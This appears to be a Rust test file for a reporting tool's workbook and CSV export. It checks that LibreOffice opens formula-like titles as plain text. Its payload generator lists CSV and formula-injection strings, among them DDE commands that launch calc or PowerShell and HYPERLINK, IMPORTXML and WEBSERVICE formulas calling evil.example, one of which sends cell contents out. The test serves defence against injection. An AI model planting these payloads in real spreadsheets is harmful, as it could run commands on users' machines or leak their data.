//! Our workbooks opened by an office program that is not ours. Skipped, saying so, where LibreOffice is not installed.

use std::fs;
use std::path::Path;
use std::process::Command;

use calamine::{Data, Reader as _, Xlsx};
use tz_model::{Facts, Report, Table, UnitIx};

use super::{unit, words};
use crate::cells::guard_csv;
use crate::csv_rows::CsvRows;
use crate::rows::{Row, Rows as _};
use crate::{template, write_csv, write_workbook};

/// Every sheet as CSV: comma, quotation mark, UTF-8, texts as shown, dates as formatted.
const ALL_SHEETS: &str = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1";

/// Converts a file beside itself. `None` where there is no LibreOffice.
fn convert(folder: &Path, file: &str, to: &str, from: Option<&str>) -> Option<()> {
    let mut command = Command::new("soffice");
    command.arg("--headless").arg(format!("-env:UserInstallation=file://{}/profile", folder.display()));
    if let Some(filter) = from {
        command.arg(format!("--infilter={filter}"));
    }
    match command.args(["--convert-to", to, "--outdir"]).arg(folder).arg(folder.join(file)).output() {
        Ok(output) => {
            assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
            Some(())
        }
        Err(error) => {
            println!("skipped: LibreOffice cannot be started ({error})");
            None
        }
    }
}

fn rows(path: &Path) -> Vec<Vec<String>> {
    let text = fs::read_to_string(path).unwrap();
    let mut reader = CsvRows::new(text.trim_start_matches('\u{feff}'));
    let mut row = Row::default();
    let mut rows = Vec::new();
    while reader.next(&mut row).unwrap() {
        rows.push(row.cells.iter().map(|cell| cell.to_string()).collect());
    }
    rows
}

/// A thousand texts that some program has been known to run, each different.
fn payloads() -> Vec<String> {
    let bodies = [
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://evil.example/?x=\"&A1,\"点这里\")",
        "1+1",
        "SUM(1+1)*cmd|' /C calc'!A0",
        "IMPORTXML(\"http://evil.example\",\"//a\")",
        "DDE(\"cmd\";\"/C calc\";\"!A0\")",
        "WEBSERVICE(\"http://evil.example\")",
        "2+5+cmd|'/C powershell'!A0",
        "A1:B2",
        "单位",
    ];
    let leads = [
        "=", "+", "-", "@", "＝", "＋", "－", "＠", "'=", "''=", "=-", "+=", "-=", "@=", "\"=", ",=", ";=", "%=", "=@",
        "1=",
    ];
    let mut all = Vec::new();
    for number in 0..5 {
        for lead in leads {
            for body in bodies {
                all.push(format!("{lead}{body}{}", "#".repeat(number)));
            }
        }
    }
    all
}

fn facts_of(titles: &[String]) -> Facts {
    let reports = titles.iter().enumerate().map(|(at, title)| Report {
        key: format!("={at}").into(),
        units: [UnitIx(0)].into(),
        date: jiff::civil::Date::constant(2018, 6, 4),
        category: "工作动态".into(),
        title: Some(title.as_str().into()),
        channel: tz_model::Channel::Unstated,
        repeats: None,
        counted: true,
        extra: None,
    });
    Facts { units: vec![unit("滨湖镇")], reports: reports.collect(), ..Facts::default() }
}

#[test]
fn a_thousand_formulas_stay_texts_in_an_office_program() {
    let payloads = payloads();
    assert_eq!(payloads.len(), 1_000);
    let facts = facts_of(&payloads);
    let folder = tempfile::tempdir().unwrap();

    fs::write(folder.path().join("facts.xlsx"), write_workbook(&facts, &words()).unwrap()).unwrap();
    if convert(folder.path(), "facts.xlsx", ALL_SHEETS, None).is_none() {
        return;
    }
    let shown = rows(&folder.path().join("facts-报送.csv"));
    let titles: Vec<&str> = shown[1..].iter().map(|row| row[4].as_str()).collect();
    // A text that looks guarded already is guarded once more, so that it reads back as it was.
    let expected: Vec<String> =
        payloads.iter().map(|text| if text.starts_with('\'') { format!("'{text}") } else { text.clone() }).collect();
    assert_eq!(titles, expected);
    assert_eq!(shown[1][2], "2018-06-04");

    // The same through CSV, as a person opens it: a program that takes formulas from CSV finds none.
    let files = write_csv(&facts);
    let (_, csv) = files.iter().find(|(table, _)| *table == Table::Reports).unwrap();
    fs::write(folder.path().join("reports.csv"), csv).unwrap();
    let as_csv = "Text - txt - csv (StarCalc):44,34,76,1,,2052,false,true,false,false,false,0,true,false,true";
    convert(folder.path(), "reports.csv", "xlsx", Some(as_csv)).unwrap();
    let mut book: Xlsx<_> = calamine::open_workbook(folder.path().join("reports.xlsx")).unwrap();
    let sheet = book.sheet_names()[0].clone();
    let formulas = book.worksheet_formula(&sheet).unwrap();
    assert_eq!(formulas.used_cells().filter(|(_, _, formula)| !formula.is_empty()).count(), 0);
    let range = book.worksheet_range(&sheet).unwrap();
    let titles: Vec<String> = range
        .rows()
        .skip(1)
        .map(|row| match &row[4] {
            Data::String(text) => text.clone(),
            other => format!("{other:?}"),
        })
        .collect();
    let expected: Vec<String> = payloads.iter().map(|text| guard_csv(text).into_owned()).collect();
    assert_eq!(titles, expected);
}

#[test]
fn an_office_program_opens_the_template_as_it_was_made() {
    let folder = tempfile::tempdir().unwrap();
    let units = [unit("滨湖镇"), unit("市教育局")];
    fs::write(folder.path().join("template.xlsx"), template(&units, &words()).unwrap()).unwrap();
    if convert(folder.path(), "template.xlsx", ALL_SHEETS, None).is_none() {
        return;
    }
    let sheet = |name: &str| rows(&folder.path().join(format!("template-{name}.csv")));
    assert_eq!(
        sheet("单位"),
        [
            vec!["单位", "类别", "排名组", "直报点", "主管单位", "起始日期", "截止日期", "承接单位", "承接得分"],
            vec!["示例", "A类", "镇街", "", "", "", "", "", ""],
            vec!["滨湖镇", "A类", "镇街", "", "", "", "", "", ""],
            vec!["市教育局", "A类", "镇街", "", "", "", "", "", ""],
        ]
    );
    assert_eq!(
        sheet("采用")[..2],
        [
            vec!["编号", "单位", "采用日期", "采用方式", "稿件编号", "形式", "约稿", "刊期", "撤销日期", "路径"],
            vec!["示例", "滨湖镇", "2018-06-29", "国办专报采用", "12", "", "", "第12期", "", ""],
        ]
    );
    let names = sheet("名称表");
    assert!(names[0].contains(&"信息类别".to_owned()) && names[0].contains(&"路径".to_owned()));
    assert_eq!(sheet("说明")[0], ["怎样填写"]);
}
